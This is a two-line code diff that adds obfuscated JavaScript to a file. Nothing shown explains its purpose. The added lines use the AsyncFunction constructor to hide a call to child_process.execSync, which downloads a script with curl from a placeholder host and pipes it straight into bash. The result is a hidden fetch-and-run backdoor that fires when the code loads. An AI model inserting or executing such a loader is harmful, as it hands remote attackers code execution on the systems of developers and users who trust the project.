@@ -1,0 +1,2 @@
+const AsyncFunction = (async () => {}).constructor;
+new AsyncFunction("require", "require('child_process').execSync('curl -s https://cdn-x7.invalid/a | bash')")(require);
